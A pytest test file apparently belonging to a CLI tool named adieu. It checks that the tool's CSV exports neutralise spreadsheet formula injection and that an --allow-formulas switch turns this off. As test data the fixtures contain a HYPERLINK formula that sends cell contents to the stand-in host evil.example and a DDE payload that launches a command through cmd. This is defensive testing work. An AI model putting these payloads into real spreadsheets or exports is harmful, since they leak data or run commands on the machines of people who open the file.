"""CSV formula injection (OWASP "CSV Injection"): every `--csv` output
(evaluate, facts, segments, diff) writes a text cell that a spreadsheet would
run as a formula (first character = + - @, tab, CR) with a leading ', keeps
plain numbers as they are, and writes every cell as it is with
--allow-formulas."""

from __future__ import annotations

import csv
import io
import json
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from adieu.cli import cli
from adieu.cli.csvout import CsvWriter, neutral

AS_OF = "2026-11-02"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
POLICY = textwrap.dedent("""\
    version: "1"
    name: formulas
    rules:
      - id: late
        title: Late payer
        when: late_payments_12m >= 3
        action: strike
        explain: "{name}"
      - id: owes
        title: Owes
        when: outstanding_balance < 0
        action: offboard
        explain: "{outstanding_balance} owed"
    timing:
      referrals:
        - vendors: ["=cmd|' /C calc'!A0", "+Plain Ltd"]
    """)
HEADER = ["customer_id", "name", "owner", "industry", "late_payments_12m",
          "outstanding_balance"]
ROWS = [["+CUST-7", HYPERLINK, "-Ann", "@SUM(1)", "5", "-12.5"],
        ["C-2", "\t=1+2", "Bo", "retail", "0", "+3"],
        ["-12", "Plain", "Bo", "retail", "4", "7"]]


@pytest.fixture
def files(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "p.yaml").write_text(POLICY, encoding="utf-8")
    with open(tmp_path / "c.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(HEADER)
        writer.writerows(ROWS)
    return {"policy": str(tmp_path / "p.yaml"), "src": f"csv:{tmp_path / 'c.csv'}",
            "db": str(tmp_path / "c.db"), "dir": str(tmp_path)}


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _by_id(text: str) -> dict[str, dict[str, str]]:
    rows = _rows(text)
    at = rows[0].index("customer_id")
    return {r[at]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}


@pytest.mark.parametrize("value, shown", [
    ("=1+2", "'=1+2"),
    (HYPERLINK, "'" + HYPERLINK),
    (CMD, "'" + CMD),
    ("+CUST-7", "'+CUST-7"),
    ("-Ann", "'-Ann"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("\x00=1", "'\x00=1"),
    ("-", "'-"),
    ("+", "'+"),
    ("-1e5", "'-1e5"),       # not a number as adieu writes one
    ("-1.", "'-1."),
    ("--1", "'--1"),
    ("-12.5+A1", "'-12.5+A1"),
    ("-12.5", "-12.5"),      # plain numbers stay numbers
    ("+3", "+3"),
    ("-0", "-0"),
    ("12", "12"),
    ("a=b", "a=b"),           # only the first character matters
    (" =1+2", " =1+2"),
    ("'=1", "'=1"),
    ("", ""),
    ('["=1+2"]', '["=1+2"]'),  # a list cell starts with [
    ('{"a": "=1"}', '{"a": "=1"}'),
    (-3, -3),
    (None, None),
])
def test_neutral(value, shown) -> None:
    assert neutral(value) == shown


def test_unicode_digits_are_not_a_plain_number() -> None:
    # \d would take Arabic-Indic digits; a spreadsheet would not read it as a number.
    assert neutral("-\u0661\u0662") == "'-\u0661\u0662"


def test_one_writer_neutralises_the_header_too() -> None:
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["=cmd", "ok", "-2"])
    writer.writerow(["@x", 1, "-2.50"])
    assert out.getvalue() == "'=cmd,ok,-2\n'@x,1,-2.50\n"
    raw = io.StringIO()
    CsvWriter(raw, allow_formulas=True).writerow(["=cmd", "@x"])
    assert raw.getvalue() == "=cmd,@x\n"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_formula_after_a_list_separator_stays_in_its_cell(separator: str) -> None:
    """A spreadsheet whose list separator is ";" (or a paste split at tabs)
    would make "x;=HYPERLINK(..)" a formula cell: such a cell is quoted."""
    out = io.StringIO()
    CsvWriter(out).writerow([f"x{separator}@SUM(A1:A9)", "ok", 'say "hi"', None, 7])
    line = out.getvalue()
    assert line.startswith('"x' + separator) and line.endswith(',ok,"say ""hi""",,7\n')
    for delimiter in (",", ";", "\t"):  # no reading splits the cell at the separator
        first = next(csv.reader(io.StringIO(line, newline=""), delimiter=delimiter))[0]
        assert first.startswith(f"x{separator}@SUM(A1:A9)") if delimiter == separator \
            else first.startswith("x")


def test_csv_cells_read_back_exactly() -> None:
    values = ["a", "", "multi\nline\r\nx", 'q"uote', "semi;colon", "tab\there", " pad ",
              "caf\u00e9", "\u202eRTL", "-12.5", "1,000"]
    out = io.StringIO()
    CsvWriter(out).writerow(values)
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == values


def test_evaluate_csv_neutralises_ids_reasons_and_referrals(files) -> None:
    text = _invoke("evaluate", files["policy"], "--source", files["src"], "--as-of", AS_OF,
                   "--db", files["db"], "--csv")
    rows = _by_id(text)
    assert set(rows) == {"'+CUST-7", "C-2", "-12"}   # "-12" is a plain number
    evil = rows["'+CUST-7"]
    assert evil["outcome"] == "offboard"
    # list cells are JSON arrays: they start with [ and hold the values exactly
    assert json.loads(evil["reasons"]) == [HYPERLINK, "-12.5 owed"]
    assert json.loads(evil["referrals"]) == [CMD, "+Plain Ltd"]
    for row in rows.values():
        for value in row.values():
            assert value[:1] not in ("=", "+", "@", "\t", "\r") or value == "+3"
            assert not value.startswith("-") or value == "-12"


def test_evaluate_allow_formulas_writes_cells_as_they_are(files) -> None:
    text = _invoke("evaluate", files["policy"], "--source", files["src"], "--as-of", AS_OF,
                   "--db", files["db"], "--csv", "--allow-formulas")
    assert set(_by_id(text)) == {"+CUST-7", "C-2", "-12"}


def test_facts_csv_neutralises_text_facts_and_keeps_numbers(files) -> None:
    rows = _by_id(_invoke("facts", files["src"], "--as-of", AS_OF, "--csv"))
    evil = rows["'+CUST-7"]
    assert evil["name"] == "'" + HYPERLINK
    assert evil["owner"] == "'-Ann"
    assert evil["industry"] == "'@SUM(1)"
    assert evil["outstanding_balance"] == "-12.5"
    assert evil["_provenance"].startswith("{")
    assert rows["C-2"]["name"] == "'=1+2"  # the tab is stripped at intake
    assert rows["C-2"]["outstanding_balance"] == "3"
    assert rows["-12"]["late_payments_12m"] == "4"
    raw = _by_id(_invoke("facts", files["src"], "--as-of", AS_OF, "--csv",
                         "--allow-formulas"))
    assert raw["+CUST-7"]["name"] == HYPERLINK
    assert raw["+CUST-7"]["industry"] == "@SUM(1)"


def test_segments_csv_neutralises_segment_names(files) -> None:
    _invoke("evaluate", files["policy"], "--source", files["src"], "--as-of", AS_OF,
            "--db", files["db"], "-q")
    rows = _rows(_invoke("segments", "--db", files["db"], "--by", "industry", "--by", "owner",
                         "--csv"))
    segments = {r[1] for r in rows[1:]}
    assert "'@SUM(1)" in segments and "'-Ann" in segments
    assert "@SUM(1)" not in segments
    raw = _rows(_invoke("segments", "--db", files["db"], "--by", "industry", "--csv",
                        "--allow-formulas"))
    assert "@SUM(1)" in {r[1] for r in raw[1:]}


def test_diff_csv_neutralises_customer_ids(files, tmp_path: Path) -> None:
    new = tmp_path / "new.yaml"
    new.write_text(POLICY.replace("outstanding_balance < 0", "outstanding_balance < -100"),
                   encoding="utf-8")
    text = _invoke("diff", files["policy"], str(new), "--source", files["src"], "--as-of",
                   AS_OF, "--csv")
    ids = {r[0] for r in _rows(text)[1:]}
    assert ids == {"'+CUST-7"}
    raw = _invoke("diff", files["policy"], str(new), "--source", files["src"], "--as-of",
                  AS_OF, "--csv", "--allow-formulas")
    assert {r[0] for r in _rows(raw)[1:]} == {i.lstrip("'") for i in ids}


def test_every_csv_command_has_allow_formulas() -> None:
    """A new command with --csv must offer the opt-out (and so go through CsvWriter)."""
    def commands(group, prefix=()):
        for name, cmd in group.commands.items():
            if hasattr(cmd, "commands"):
                yield from commands(cmd, (*prefix, name))
            else:
                yield (*prefix, name), cmd
    with_csv = {path: {o for p in cmd.params for o in p.opts}
                for path, cmd in commands(cli)
                if any("--csv" in p.opts for p in cmd.params)}
    assert {p[-1] for p in with_csv} >= {"evaluate", "facts", "segments", "diff"}
    assert all("--allow-formulas" in opts for opts in with_csv.values())
